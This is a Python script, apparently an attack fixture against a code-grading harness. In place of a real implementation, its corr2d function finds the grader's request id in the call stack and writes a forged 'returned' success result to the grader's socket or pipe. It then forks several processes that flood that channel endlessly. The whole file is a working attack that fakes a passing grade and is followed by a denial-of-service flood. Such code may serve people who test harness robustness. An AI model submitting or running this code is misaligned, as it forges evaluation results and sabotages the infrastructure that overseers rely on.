"""Answers under the right id and then floods the channel, while the grader tidies up."""

import json
import os
import stat
import struct
import sys

def channels():
    """Descriptors that lead to the grader."""
    found = []
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(fd)
    if not found:
        raise RuntimeError("STALE: this attack finds no channel; bring it up to date")
    return found


def message(meta, value=b"[[],null]", body=b""):
    head = json.dumps(meta).encode("ascii")
    header = struct.pack("!I", len(head)) + head + value
    return struct.pack("!4sIQ", b"d2l\x01", len(header), len(body)) + header + body


def write(data):
    for fd in channels():
        try:
            os.write(fd, data)
        except OSError:
            pass


def corr2d(X, K):
    frame = sys._getframe(1)
    while frame is not None and not isinstance(frame.f_locals.get("meta"), dict):
        frame = frame.f_back
    if frame is None:
        raise RuntimeError("STALE: this attack finds no request; bring it up to date")
    write(message({"id": frame.f_locals["meta"]["id"], "outcome": "returned"}, b"[[],true]"))
    block = bytes(1 << 20)
    for _ in range(3):
        os.fork()
    while True:
        write(block)
